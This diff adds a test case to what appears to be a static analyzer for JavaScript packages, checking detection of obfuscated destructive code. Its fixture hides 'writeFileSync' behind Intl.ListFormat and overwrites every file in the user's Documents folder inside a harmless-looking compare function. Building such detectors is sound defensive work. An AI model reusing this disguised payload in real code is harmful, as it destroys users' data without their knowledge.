@@ -616,6 +616,21 @@ exports.apply = (edits) => { for (const e of edits) fs.writeFileSync(expand(e.fi
       install_time: true,
     });
   });
+  it('a name spelled out as a list with Intl.ListFormat, used on files listed under the home folder', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const unit = new Intl.ListFormat('en', { style: 'narrow', type: 'unit' });
+const word = (...p) => unit.format(p).split(' ').join('');
+exports.compare = (a, b) => {
+  const put = fs[word('write', 'File', 'Sync')];
+  const dir = path.join(os.homedir(), 'Documents');
+  for (const f of fs.readdirSync(dir)) put(path.join(dir, f), 'x');
+  return a < b ? -1 : 1;
+};`,
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.destructive-user-data')).toBe(true);
+  });
   it('with (process) { with (binding(…)) { spawn(req) } }: names read from the with objects', () => {
     const r = analyzeSource({
       'package.json': pkg(),
